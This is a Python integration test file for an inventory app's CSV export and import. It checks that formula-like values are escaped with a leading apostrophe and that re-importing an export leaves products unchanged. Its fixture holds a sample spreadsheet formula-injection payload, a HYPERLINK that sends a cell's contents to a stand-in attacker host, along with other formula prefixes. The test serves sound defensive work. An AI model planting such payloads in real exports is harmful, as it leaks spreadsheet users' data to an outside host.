"""CSV export never hands a spreadsheet a live formula, and importing an export changes nothing (#17)."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from inventory_app.services.csv_transfer import neutralise_formula, restore_text
from tests.integration.helpers import unique_sku

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?"&B2,"open")',
    "description": "+1 great deal",
    "category": "@SUM(A1:A9)",
}


@pytest.mark.parametrize(
    "value", ["=1+1", "+1", "-1", "@cmd", "\tx", "\rx", "'=already marked", "'plain", "plain", "", "a=b"]
)
def test_every_value_survives_neutralising_and_restoring(value: str) -> None:
    exported = neutralise_formula(value)
    assert not exported.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore_text(exported) == value


def _exported_rows(api: httpx.Client, sku: str) -> tuple[str, dict[str, str]]:
    export = api.get("/api/products/export")
    assert export.status_code == 200, export.text[:300]
    rows = [row for row in csv.DictReader(io.StringIO(export.text)) if row["sku"] == sku]
    assert len(rows) == 1
    return export.text, rows[0]


def test_an_exported_formula_is_text_and_the_export_re_imports_unchanged(api: httpx.Client) -> None:
    sku = unique_sku("CSVF")
    created = api.post("/api/products", json={"sku": sku, "price": "1.00", "quantity": 3, **HOSTILE})
    assert created.status_code == 201, created.text
    text, row = _exported_rows(api, sku)
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value, column  # a spreadsheet shows the value and does not run it

    header, ours = text.splitlines()[0], next(line for line in text.splitlines() if sku in line)
    imported = api.post(
        "/api/products/import", files={"file": ("export.csv", f"{header}\n{ours}\n".encode(), "text/csv")}
    )
    assert imported.status_code == 200, imported.text
    assert (imported.json()["unchanged"], imported.json()["updated"], imported.json()["errors"]) == (1, 0, [])
    product = api.get(f"/api/products/{created.json()['id']}").json()
    assert {column: product[column] for column in HOSTILE} == HOSTILE
    assert product["version"] == 1
